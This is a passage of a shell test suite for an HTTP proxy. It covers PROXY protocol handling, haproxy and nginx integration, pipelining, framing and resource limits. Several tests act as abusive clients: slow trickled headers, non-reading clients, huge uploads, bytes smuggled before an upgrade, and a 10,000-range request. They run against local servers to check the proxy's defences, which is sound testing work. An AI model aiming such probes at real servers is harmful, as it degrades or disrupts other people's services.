	is "$(proxied "$v2\\x20\\x00\\x00\\x00" "$get_inner")" 200 'status for the peer itself'
	start_as -q -l 0,proxy -f -a to:127.0.0.0/8
	is "$(proxied "$of_seven" "$get_inner")" 200 'status with a rule that names the address'
	start_as -q -l 0,proxy -f
	got=$(socks_hears "send:$of_seven$no_login" take:2 "send:\x05\x01\x00$here$(octets16 "$inner")" rest)
	like "$got" '^05000502' 'what a SOCKS client behind the header hears'
}

test_off_loopback_only_trusted_peers_send_a_proxy_header() {
	for rest in '' '-a all' '-u bob:x' '--report-only -d /x'; do
		refuses '--trust' -q -l :0,proxy -r /=200 $rest
	done
	refuses '--trust' -q -l :0,proxy -a all
	start_as -q -l :0,proxy -r /=echo --trust 127.0.0.0/8
	is "$(client_of "$of_seven")" 192.0.2.7
	is "$(client_of "$of_seven_v2")" 192.0.2.7
	start_as -l :0,proxy -o log --log-format '%>s %{why}x' -r /=200 --trust 192.0.2.0/24
	is "$(proxied "$of_seven")" 403
	logged
	is "$(cat log)" '403 untrusted'
	start_as -q -l 0,proxy -r /=echo --trust 192.0.2.0/24
	is "$(client_of "$of_seven")" 192.0.2.7 'on loopback, the client'
}

test_unix_and_given_sockets_take_a_proxy_header_too() {
	start_as -q -l unix:front,proxy -l unix:plain -r /=echo
	is "$(head -n 1 "out.$n")" unix:front
	port=unix:front
	is "$(client_of "$of_seven")" 192.0.2.7
	is "$(client_of "$of_seven_v2")" 192.0.2.7
	is "$(proxied '')" 400
	is "$(code --unix-socket plain http://h/)" 200 'status at another listener'
	wrap="$peer give 1 env LISTEN_FDS= LISTEN_PID=0"
	start_as -q -l fd:3,proxy -r /=echo
	is "$(client_of "$of_seven")" 192.0.2.7
	is "$(proxied '')" 400
}

haproxy_up() {  # haproxy with these lines after its defaults, on port $free
	command -v haproxy >/dev/null || PATH=$PATH:/usr/sbin
	need haproxy
	cat >haproxy.cfg <<-END
	defaults
	    mode http
	    timeout connect 5s
	    timeout client 9s
	    timeout server 9s
	END
	cat >>haproxy.cfg
	haproxy -db -f haproxy.cfg >haproxy.err 2>&1 &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "haproxy does not start: $(cat haproxy.err)"
}

test_haproxy_in_front_tells_the_client_by_both_versions() {
	[ "$(uname)" = Linux ] || skip "127.0.0.7 is an address of this machine on Linux"
	for how in send-proxy send-proxy-v2 'send-proxy-v2 proxy-v2-options unique-id,crc32c' 'send-proxy-v2-ssl-cn' 'send-proxy check inter 100' 'send-proxy-v2 check inter 100'; do
		for mode in tcp http; do
			start_as -l 0,proxy -o log --log-format '%a %{c}a %>s' -r /=echo
			free=$("$peer" port)
			haproxy_up <<-END
			listen l
			    mode $mode
			    bind 127.0.0.1:$free
			    server s 127.0.0.1:$port $how
			END
			is "$(code --interface 127.0.0.7 "http://127.0.0.1:$free/")" 200 "status with $how in mode $mode"
			is "$(member client)" 127.0.0.7 "the client with $how in mode $mode"
			wait_for grep -q '^127\.0\.0\.7 127\.0\.0\.1 200$' log || fail "the log: $(cat log)"
			kill "$!"
			stop
			rm log
		done
	done
}

nginx_up() {  # nginx with these lines of configuration, on port $free: nginx_up [FIRST-LINE]
	command -v nginx >/dev/null || PATH=$PATH:/usr/sbin
	need nginx
	{
		[ "$(id -u)" != 0 ] || echo 'user root;'
		echo "$1 daemon off; master_process off; pid $PWD/nginx.pid; error_log $PWD/error.log; events {}"
		cat
	} >nginx.conf
	nginx -p "$PWD" -c "$PWD/nginx.conf" 2>nginx.err &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "nginx does not start: $(cat nginx.err)"
}

test_nginx_in_front_tells_the_client() {
	[ "$(uname)" = Linux ] || skip "127.0.0.7 is an address of this machine on Linux"
	command -v nginx >/dev/null || PATH=$PATH:/usr/sbin
	need nginx
	module=''
	for file in /usr/lib*/nginx/modules/ngx_stream_module.so /usr/local/lib*/nginx/modules/ngx_stream_module.so; do
		[ ! -f "$file" ] || module="load_module $file;"
	done
	nginx -V 2>&1 | grep -Eq -e '--with-stream( |$)' || [ -n "$module" ] || skip 'nginx without its stream module here'
	start_as -q -l 0,proxy -r /=echo
	free=$("$peer" port)
	nginx_up "$module" <<-END
	stream { server { listen 127.0.0.1:$free; proxy_pass 127.0.0.1:$port; proxy_protocol on; } }
	END
	is "$(code --interface 127.0.0.7 "http://127.0.0.1:$free/")" 200
	is "$(member client)" 127.0.0.7
}

sent_header() { od -An -v -tx1 "got$m.${1:-1}" | tr -d ' \n' | cut -c "1-${2:-56}"; }  # of connection N, its first octets in hex
hex16() { printf %04x "$1"; }

test_a_target_may_be_sent_the_client_s_address() {
	origin take:28 head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r "http://127.0.0.1:$origin,proxy"
	answer=$(get -o body -w '%{http_code} %{local_port}' "$url/x")
	is "${answer% *}" 200
	signature=0d0a0d0a000d0a515549540a
	is "$(sent_header)" "${signature}2111000c7f0000017f000001$(hex16 "${answer#* }")$(hex16 "$port")" 'the header'
	is "$(tail -c +29 "got$m.1" | head -n 1 | tr -d '\r')" 'GET /x HTTP/1.1' 'what follows it'
	start_as -q -l :0 -r "http://127.0.0.1:$origin,proxy"
	is "$(code "http://127.0.0.1:$port")" 200
	like "$(sent_header 2)" "^${signature}2111000c7f0000017f000001[0-9a-f]{4}$(hex16 "$port")\$" 'the header of IPv4 at a listener for both families'
	start_as -q -l 0,proxy -r "http://127.0.0.1:$origin,proxy"
	is "$(proxied "$of_seven")" 200
	like "$(sent_header 3)" "^${signature}2111000cc0000207[0-9a-f]{8}1267" 'the header for a client named by a header'
}

test_a_target_is_sent_an_ipv6_client_s_address() {
	have_ipv6
	origin take:52 head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start_as -q -l '[::1]:0' -r "http://127.0.0.1:$origin,proxy"
	answer=$(get -g -o body -w '%{http_code} %{local_port}' "http://[::1]:$port/x")
	is "${answer% *}" 200
	one=00000000000000000000000000000001
	is "$(sent_header 1 104)" "0d0a0d0a000d0a515549540a21210024$one$one$(hex16 "${answer#* }")$(hex16 "$port")" 'the header'
}

test_a_target_is_sent_a_local_header_for_a_client_at_a_unix_socket() {
	origin take:16 head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start_as -q -l unix:front -r "http://127.0.0.1:$origin,proxy"
	is "$(code --unix-socket front http://h/x)" 200
	like "$(sent_header)" '^0d0a0d0a000d0a515549540a20000000474554202f78' 'the header and the request'
	start_as -q -l unix:app,proxy -r /=echo
	start -r unix:app,proxy
	is "$(code "$url/x")" 200
	is "$(member client)" 127.0.0.1 'the client that an application at a Unix socket sees'
}

test_a_connection_with_a_proxy_header_is_used_again_for_the_same_client_only() {
	twice='take:28 head send:HTTP/1.1\x20200\x20OK\r\nContent-Length:\x200\r\n\r\n head send:HTTP/1.1\x20200\x20OK\r\nContent-Length:\x200\r\n\r\n rest'
	origin $twice
	start -r "http://127.0.0.1:$origin,proxy"
	is "$(code "$url/1" "$url/2")" 200200
	is "$(ls got*.* | wc -l | tr -d ' ')" 1 'number of connections for one of a client'
	is "$(code "$url/3" "$url/4")" 200200
	is "$(ls got*.* | wc -l | tr -d ' ')" 2 'number of connections for two of clients'
	has "$(cat "got$m.2")" 'GET /4'
	origin take:28 head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r "http://127.0.0.1:$origin,proxy"
	for i in 1 2 3; do
		answer=$(get -o body -w '%{http_code} %{local_port}' "$url/$i")
		is "${answer% *}" 200
		has "$(sent_header $i)" "7f0000017f000001$(hex16 "${answer#* }")" 'the header'
	done
}

test_a_proxy_header_goes_to_the_member_that_is_tried_next() {
	dead=1
	origin take:28 head "$ok_empty" rest
	start -r ":$dead,proxy" -r ":$origin,proxy"
	for i in 1 2 3; do
		answers 200 "$url/$i"
		like "$(sent_header $i)" '^0d0a0d0a000d0a515549540a2111000c7f000001' 'the header'
		is "$(tail -c +29 "got$m.$i" | head -n 1 | tr -d '\r')" "GET /$i HTTP/1.1" 'what follows it'
	done
	origin take:28 head 'send:HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n' mirror
	start -r ":$origin,proxy"
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\nConnection: upgrade\r\nUpgrade: echo\r\n\r\n' 'read:\r\n\r\n' send:ping read:ping >got || fail 'no upgrade'
}

test_haproxy_behind_is_told_the_client() {
	[ "$(uname)" = Linux ] || skip "127.0.0.7 is an address of this machine on Linux"
	free=$("$peer" port)
	haproxy_up <<-END
	listen l
	    bind 127.0.0.1:$free accept-proxy
	    http-request return status 200 content-type text/plain lf-string "%[src] %[src_port] %[req.hdr(x-forwarded-for)]"
	END
	start -r "http://127.0.0.1:$free,proxy"
	answer=$(get -w ' %{local_port}' --interface 127.0.0.7 "$url")
	is "$answer" "127.0.0.7 ${answer##* } 127.0.0.7 ${answer##* }"
	is "$(get -d content "$url" | cut -d' ' -f1)" 127.0.0.1
	is "$("$peer" load "$port" 10 300 'GET / HTTP/1.1\r\nHost: h\r\n\r\n')" '200:300 broken:0'
	start -r "http://127.0.0.1:$free"
	[ "$(code "$url")" != 200 ] || fail 'haproxy answers without a header as well'
}

test_nginx_behind_is_told_the_client() {
	[ "$(uname)" = Linux ] || skip "127.0.0.7 is an address of this machine on Linux"
	free=$("$peer" port)
	nginx_up '' <<-END
	http { access_log off; client_body_temp_path $PWD/b; proxy_temp_path $PWD/p; fastcgi_temp_path $PWD/f; uwsgi_temp_path $PWD/u;
	scgi_temp_path $PWD/s; server { listen 127.0.0.1:$free proxy_protocol; return 200 "\$proxy_protocol_addr \$proxy_protocol_port"; } }
	END
	start -r "http://127.0.0.1:$free,proxy"
	answer=$(get -w ' %{local_port}' --interface 127.0.0.7 "$url")
	is "$answer" "127.0.0.7 ${answer##* } ${answer##* }"
}

# ---- the wire: connections, framing and flow ----

# The rules of message grammar and framing: rawcase (at the end of this file) plays the client and the
# origin of each case of a table, and judges what either of them received.
raw() {  # MODE PASS: all cases in this mode, their octets sent whole or split
	[ -x "$raw/rawcase" ] || fail 'rawcase did not compile'
	"$raw/rawcase" -t "${raw_bound:-3000}" -p "$2" "$PROXY" "$1" "$raw/cases.txt" >results 2>raw.err ||
		fail "$(grep '^not ok' results; echo; grep -A 25 '^not ok' results | head -n 60; tail -n 1 results; cat raw.err)"
	grep -v '^rawcase' raw.err && fail 'unexpected on stderr'
	tail -n 1 results
}
test_the_rules_of_the_wire_hold_in_reverse_mode() { raw reverse whole; }
test_the_rules_of_the_wire_hold_in_reverse_mode_for_split_octets() { raw reverse split; }
test_the_rules_of_the_wire_hold_in_forward_mode() { raw forward whole; }
test_the_rules_of_the_wire_hold_in_forward_mode_for_split_octets() { raw forward split; }

test_connections_are_kept_alive_and_requests_may_be_pipelined() {
	start -r /=echo
	inner=$port
	start -r /1=200:one -r "/2=:$inner" -r /3=200:three
	talk "$port" 'send:GET /1 HTTP/1.1\r\nHost: h\r\n\r\nGET /2 HTTP/1.1\r\nHost: h\r\n\r\nPOST /3 HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\nabcGET /1 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n' rest >got
	is "$(tr -d '\r' <got | grep -Eo '^one|"target":"/2"|three|one$' | tr '\n' ' ')" 'one "target":"/2" three one '
	is "$(get -w '%{num_connects} ' -o b1 "$url/1" -o b2 "$url/2" -o b3 "$url/3")" '1 0 0 '
}

test_a_long_pipeline_is_answered_whole() {
	start -r /=200:x
	requests=$(awk 'BEGIN { for (i = 0; i < 1000; i++) printf "GET /%d HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n", i }')
	talk "$port" "send:$requests" 'send:GET /last HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n' rest >got
	is "$(grep -c '^HTTP/1\.1 200' got)" 1 'answers at the start of a line'
	is "$(grep -Eo 'HTTP/1\.1 200' got | wc -l | tr -d ' ')" 1001 'number of answers'
}

test_requests_split_at_every_octet_are_understood() {
	start -r /=200:whole
	talk "$port" 'drip:1:POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\nT: t\r\n\r\nGET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n' rest >got
	is "$(grep -o 'HTTP/1\.1 200' got | wc -l | tr -d ' ')" 2
}

test_responses_split_at_every_octet_are_understood() {
	origin head 'drip:1:HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n' again
	start -r "http://127.0.0.1:$origin"
	is "$(get "$url")" hello
	is "$(get "$url")" hello
}

test_idle_connections_to_an_upstream_are_used_again() {
	start -r /=200:x
	inner=$port
	start -r ":$inner"
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' again
	start -r ":$origin"
	for i in 1 2 3 4 5; do answers 200 "$url"; done
	is "$(ls got*.* | wc -l | tr -d ' ')" 1 'number of connections'
}

test_a_reused_connection_that_was_closed_is_replaced_silently() {
	for ending in '' reset; do
		origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' $ending
		start -r ":$origin"
		for i in 1 2 3 4 5 6; do answers 200 "$url"; done
		is "$(code -d x "$url")" 200 'status of a POST'
	done
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' head reset -- head 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' again
	start -r ":$origin"
	answers 200 "$url"
	answers 200 "$url"
}

test_expect_100_continue_is_answered_or_passed_on() {
	start -r /=200:done
	talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 4\r\nConnection: close\r\n\r\n' \
		'read:HTTP/1.1 100 Continue\r\n' 'read:\r\n' send:body rest >got || fail 'no 100'
	grep -q '^HTTP/1.1 200' got || fail "$(cat got)"
	origin head 'send:HTTP/1.1 100 Continue\r\n\r\n' take:4 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r ":$origin"
	talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 4\r\nConnection: close\r\n\r\n' \
		'read:HTTP/1.1 100 Continue\r\n' 'read:\r\n\r\n' send:body 'read:HTTP/1.1 200 OK' rest >got || fail 'no 100 from the origin'
	origin head 'send:HTTP/1.1 403 Forbidden\r\nContent-Length: 2\r\n\r\nno' rest
	start -r ":$origin"
	talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n' 'read:\r\n\r\nno' >got
	head -n 1 got | grep -q '^HTTP/1.1 403' || fail "$(cat got)"
	start -r /=200
	is "$(code -H 'Expect: miracles' -d x "$url")" 417
}

test_an_upstream_may_answer_before_the_content_has_come() {
	origin head 'send:HTTP/1.1 403 Forbidden\r\nContent-Length: 5\r\nConnection: close\r\n\r\nearly' nap:200
	start -r ":$origin"
	head -c 5000000 /dev/zero >big
	is "$(code -H Expect: --data-binary @big "$url")" 403
	is "$(cat body)" early
}

test_interim_answers_pass() {
	origin head 'send:HTTP/1.1 103 Early Hints\r\nLink: </style.css>\r\n\r\nHTTP/1.1 102 Processing\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' again
	start -r ":$origin"
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\n\r\n' 'read:HTTP/1.1 103' 'read:Link: </style.css>' 'read:\r\n\r\n' 'read:HTTP/1.1 200 OK' 'read:\r\n\r\nok' >got || fail "$(cat got)"
	talk "$port" 'send:GET / HTTP/1.0\r\nHost: h\r\n\r\n' rest >got
	is "$(grep -c '^HTTP/1' got)" 1 'answers to a 1.0 client'
}

test_an_old_client_gets_what_it_understands() {
	origin head 'send:HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\none\r\n3\r\ntwo\r\n0\r\n\r\n' again
	start -r ":$origin"
	talk "$port" 'send:GET / HTTP/1.0\r\n\r\n' rest >got
	hasnt "$(cat got)" chunked
	is "$(tail -n 1 got)" onetwo
}

test_an_answer_cut_off_upstream_is_cut_off_visibly() {
	for answer in 'Content-Length: 10\r\n\r\nhalf' 'Transfer-Encoding: chunked\r\n\r\n4\r\nhalf\r\n' 'Transfer-Encoding: chunked\r\n\r\n9\r\nhalf'; do
		origin head "send:HTTP/1.1 200 OK\r\n$answer"
		start -r ":$origin"
		get "$url" >got 2>curl.err && fail "it looks whole: $answer"
		is "$(cat got)" half
	done
	origin head
	start -r ":$origin"
	answers 502 "$url"
	origin head 'send:nonsense\r\n\r\n'
	start -r ":$origin"
	answers 502 "$url"
}

test_a_client_that_goes_away_ends_the_request_upstream() {
	origin head touch:begun rest touch:ended
	start -r ":$origin"
	(exec curl -q -s "$url") >got 2>curl.err &
	client=$!
	wait_for test -f begun || fail 'the request did not arrive'
	kill -KILL $client
	wait_for test -f ended || fail 'the upstream connection stays open'
}

test_events_pass_as_they_come() {
	for framing in 'Transfer-Encoding: chunked\r\n\r\n9\r\ndata: 1\n\n\r\n;9\r\ndata: 2\n\n\r\n0\r\n\r\n' 'Connection: close\r\n\r\ndata: 1\n\n;data: 2\n\n'; do
		rm -f second
		: >events
		origin head "send:HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n${framing%%;*}" wait:second "send:${framing#*;}"
		start -r ":$origin"
		get -N "$url" >events &
		client=$!
		wait_for grep -q 'data: 1' events || fail 'the first event does not come'
		grep -q 'data: 2' events && fail 'the second event came first'
		: >second
		wait_for grep -q 'data: 2' events || fail 'the second event does not come'
		wait $client
	done
}

test_a_long_poll_outlives_other_requests() {
	origin head touch:begun wait:go 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\npoll' -- head 'send:HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nother' again
	start -r ":$origin"
	get "$url/poll" >polled &
	client=$!
	wait_for test -f begun
	for i in 1 2 3; do is "$(get "$url")" other; done
	: >go
	wait $client
	is "$(cat polled)" poll
}

test_an_upgrade_becomes_a_tunnel_after_101_only() {
	origin head 'send:HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nhello' mirror
	start -r ":$origin"
	talk "$port" 'send:GET /ws HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\nearly' \
		'read:HTTP/1.1 101 ' 'read:\r\n\r\nhello' read:early 'send:\x81\x00more' 'read:\x81\x00more' shut rest >got || fail "$(cat got)"
	grep -qi '^Upgrade: websocket' got || fail "no Upgrade in $(cat got)"
	grep -qi '^Upgrade: websocket' "got$m.1" || fail "no Upgrade in $(cat "got$m.1")"
	origin head nap:100 'send:HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno' rest
	start -r ":$origin"
	talk "$port" 'send:GET /ws HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n\x81\x05smuggled' 'read:\r\n\r\nno' >got
	grep -q smuggled "got$m.1" && fail 'octets passed before 101'
	:
}

test_h2c_is_never_upgraded_to() {
	behind
	is "$(code --http2 -H 'X: y' "$url")" 200
	is "$(field Upgrade)$(field HTTP2-Settings)" ''
	hasnt "$(field Connection)" Upgrade
	origin head 'send:HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n' hang
	start -r ":$origin"
	answers 502 "$url"
}

test_hop_by_hop_fields_do_not_pass() {
	behind
	is "$(code -H 'Connection: X-Hop, close' -H 'X-Hop: 1' -H 'Keep-Alive: 5' -H 'TE: gzip' -H 'Proxy-Connection: keep-alive' -H 'X-Stays: 1' "$url")" 200
	is "$(field X-Hop)$(field Keep-Alive)$(field Proxy-Connection)" ''
	hasnt "$(field TE)" gzip
	is "$(field X-Stays)" 1
}

test_max_forwards_counts_down_for_trace_and_options() {
	behind
	is "$(code -X OPTIONS -H 'Max-Forwards: 3' "$url")" 200
	is "$(field Max-Forwards)" 2
	is "$(code -X OPTIONS -H 'Max-Forwards: 0' "$url")" 200
	hasnt "$(cat body)" '"fields"' 'the answer at Max-Forwards: 0'
	is "$(code -H 'Max-Forwards: 0' "$url")" 200
	is "$(field Max-Forwards)" 0 'Max-Forwards of a GET'
}

test_trailers_pass_to_a_client_that_can_read_them() {
	origin head 'send:HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Sum\r\n\r\n2\r\nok\r\n0\r\nX-Sum: 1\r\nContent-Length: 9\r\n\r\n' again
	start -r ":$origin"
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\nTE: trailers\r\nConnection: TE, close\r\n\r\n' rest >got
	grep -q '^X-Sum: 1' got || fail "no trailer in: $(cat got)"
	grep -q '^Content-Length: 9' got && fail 'a framing field passed as a trailer'
	:
}

test_an_upload_is_not_taken_in_faster_than_it_is_read() {
	need_proc
	origin head wait:go sink:400000000 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r ":$origin"
	before=$(memory "$pid")
	talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 400000000\r\n\r\n' stuff:400000000 >stuffed
	like "$(cat stuffed)" '^stuffed [0-9]{1,8}$' 'what the client could send'
	grew_less_than 4096
}

test_an_upload_passes_in_constant_memory() {
	need_proc
	size=${slow:+10737418240}
	: "${size:=104857600}"
	origin head "sink:$size" 'send:HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' rest
	start -r ":$origin"
	before=$(memory "$pid")
	talk "$port" "send:POST / HTTP/1.1\r\nHost: h\r\nContent-Length: $size\r\n\r\n" "pour:$size" 'read:HTTP/1.1 200 OK' >got || fail "$(cat got)"
	grew_less_than 4096
}

test_a_client_that_does_not_read_holds_only_its_own_connection() {
	need_proc
	head -c 100000000 /dev/zero >big
	start -r /big=file:big -r /=200:x
	inner=$port
	start -r ":$inner"
	before=$(memory "$pid")
	for i in 1 2 3 4 5 6 7 8 9 10; do
		helper hold "$port" 1 'GET /big HTTP/1.1\r\nHost: h\r\n\r\n'
	done
	for i in 1 2 3 4 5; do is "$(code -m 2 "$url/")" 200; done
	grew_less_than 8192
}

test_slow_heads_hold_only_their_own_connection() {
	start -r /=200:x -t head=2
	helper hold "$port" 200 'GET / HTTP/1.1\r\nHo'
	for i in 1 2 3 4 5; do is "$(code -m 2 "$url/")" 200; done
}

test_an_upstream_killed_under_load_loses_nothing_that_can_be_sent_again() {
	clients=${slow:+200} requests=${slow:+50000}
	: "${clients:=50}" "${requests:=20000}"
	three
	start -r /=200:victim
	victim=$pid
	start -r ":$a" -r ":$port" -r ":$b"
	"$peer" load "$port" "$clients" "$requests" 'GET / HTTP/1.1\r\nHost: h\r\n\r\n' >result &
	load=$!
	busy() { [ "$(ticks "$victim")" -gt 0 ]; }
	need_proc
	wait_for busy
	kill -KILL "$victim"
	wait $load
	pids=$(echo "$pids" | sed "s/ $victim\b//")
	is "$(cat result)" "200:$requests broken:0"
}

test_a_full_descriptor_table_pauses_accepting_and_recovers() {
	need_proc
	wrap="$peer files 40"
	start -r /=200:x
	wrap=''
	may_say '^proxy: .*(descriptor|open files)'
	helper hold "$port" 100
	"$peer" nap 200
	used=$(ticks "$pid")
	"$peer" nap 1000
	used=$(($(ticks "$pid") - used))
	[ $used -lt 30 ] || fail "it spins: $used ticks in a second"
	kill "$helper"
	wait_for now_answers 200 "$url" || fail 'it does not recover'
}

test_descriptors_do_not_leak() {
	need_proc
	dead=1
	origin head 'send:HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nhalf' reset
	start -r /ok=200 -r "/cut=:$origin" -r "/dead=:$dead" -r /name=http://nothing.invalid -t pool=1s,keepalive=1s
	once() { code "$url/ok" "$url/cut" "$url/dead" "$url/name" >codes; talk "$port" 'send:GET' reset; }
	once
	settled() { [ "$(descriptors "$pid")" -le "$most" ]; }
	most=$(descriptors "$pid")
	i=0
	while [ $i -lt 20 ]; do once; i=$((i + 1)); done
	wait_for settled || fail "$(descriptors "$pid") descriptors, $most before"
}

test_many_clients_at_once_are_served() {
	start -r /=200:x
	inner=$port
	start -r ":$inner"
	is "$("$peer" load "$port" 200 10000 'GET / HTTP/1.1\r\nHost: h\r\n\r\n')" '200:10000 broken:0'
	is "$("$peer" load "$port" 50 1000 'GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n')" '200:1000 broken:0'
	is "$("$peer" load "$port" 20 500 'POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 65536\r\n\r\n' 65536)" '200:500 broken:0'
	start
	is "$("$peer" load "$port" 50 5000 "GET http://127.0.0.1:$inner/ HTTP/1.1\r\nHost: h\r\n\r\n")" '200:5000 broken:0'
}

test_an_upload_that_has_ended_may_be_taken_slowly() {
	[ "$(uname)" = Linux ] || skip "only Linux tells what its sockets hold"
	size=$((3 << 20))
	origin head nap:6500 "sink:$size" 'send:HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ndone'
	start -r ":$origin"
	talk "$port" "send:POST / HTTP/1.1\r\nHost: h\r\nConnection: close\r\nContent-Length: $size\r\n\r\n" "pour:$size" shut rest >got
	has "$(cat got)" 'done' 'the answer'
}

# ---- the wire: slow and greedy clients and servers ----

test_a_head_that_trickles_is_408_though_each_octet_comes_soon() {
	start -t head=500ms -A 0 -r /=200:x
	admin=$(sed -n 2p "out.$n")
	whole='GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n'
	for p in "$port" "${admin##*:}"; do
		got=$(talk "$p" "trickle:60:${whole}Connection: close\r\n\r\n" rest)
		like "$got" '^HTTP/1\.1 408 ' 'the answer to the first'
		got=$(talk "$p" "send:$whole\r\n" 'read:\r\n\r\n' "trickle:60:${whole}Connection: close\r\n\r\n" rest)
		has "$got" 'HTTP/1.1 408 ' 'what answers the second on its connection'
	done
}

test_who_is_one_too_many_and_says_nothing_is_closed_in_time() {
	start -t head=500ms --max connections=1 -r /=200
	helper hold "$port" 1
	talk "$port" rest >got || fail 'it was not closed'
	is "$(cat got)" '' 'what it hears'
}

test_framing_and_trailers_that_trickle_are_no_progress() {
	start -r /=200:x
	inner=$port
	for to in 200:x ":$inner"; do
		start_logged -r "$to" -t idle=400ms --log-format '%s %{why}x'
		for slow in ';aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\nz\r\n0\r\n\r\n' '\r\nz\r\n0\r\nA: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\r\n\r\n'; do
			got=$(talk "$port" 'send:POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n1' "trickle:60:$slow" rest)
			like "$got" '^HTTP/1\.1 408 '
		done
		logged 2
		is "$(sort -u log)" '408 body-late'
		stop
		rm log
	done
}

test_a_client_that_reads_nothing_is_let_go() {
	need_proc
	head -c 30000000 /dev/zero >big
	start -r /big=file:big -R 'Cache-Control: max-age=100'
	inner=$port
	start_logged -t idle=500ms -C store -r /file=file:big -r "/up=:$inner/big" -r /small=200:x --log-format '%U %{why}x'
	get -o body "$url/up"
	before=$(memory "$pid")
	for path in /file /up '/up?other'; do helper hold "$port" 1 "GET $path HTTP/1.1\r\nHost: h\r\n\r\n"; done
	helper hold "$port" 1 'GET /up?bare HTTP/1.1\r\nHost: h\r\nCache-Control: no-store\r\n\r\n'
	talk "$port" 'times:1000000:GET /small HTTP/1.1\r\nHost: h\r\n\r\n' >got 2>&1 && fail 'all is read of one that reads nothing'
	let_go() { [ "$(grep -c 'client-slow$' log)" = 5 ]; }
	wait_for let_go || fail "only these: $(grep client-slow log)"
	grew_less_than 4096
}

test_a_refused_client_that_goes_on_sending_is_left_alone() {
	start --max body=10 -r /=200:x
	post='send:POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 400000000\r\n\r\n'
	got=$(talk "$port" "$post" 'read:413' stuff:400000000)
	like "$got" '^stuffed [0-9]{1,8}$' 'what it could send'
	talk "$port" "$post" 'read:413' drip:50:zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz \
		>got 2>&1 && fail 'it may send for ever'
	:
}

test_a_head_of_many_pieces_is_not_read_over_and_over() {
	need_proc
	sanitized && skip 'it would be slow'
	start --max header=1M -r /=200:x
	before=$(ticks "$pid")
	talk "$port" 'send:GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n' "times:100:A: $(head -c 2000 /dev/zero | tr '\0' b)\r\n" "drip:0:C: $(head -c 15000 /dev/zero | tr '\0' c)" 'send:\r\n\r\n' rest >got
	like "$(cat got)" '^HTTP/1\.1 200 '
	used=$(($(ticks "$pid") - before))
	[ $used -lt 50 ] || fail "it took $used hundredths of a second"
}

test_many_ranges_get_one_copy() {
	head -c 100000 /dev/zero >big
	start -r /=file:big -R 'Cache-Control: max-age=100'
	start -C store -r /file=file:big -r "/up=:$port"
	ranges=0-$(awk 'BEGIN { while (i++ < 10000) printf ",%d-", i % 9 }')
	printf 'Range: bytes=%s\n' "$ranges" >field
	for path in file up up; do
		like "$(code -w ' %{http_code} %{size_download}' -H @field "$url/$path")" ' (200 100000|416 [0-9]{1,3})$' "status and size of $path"
	done
}

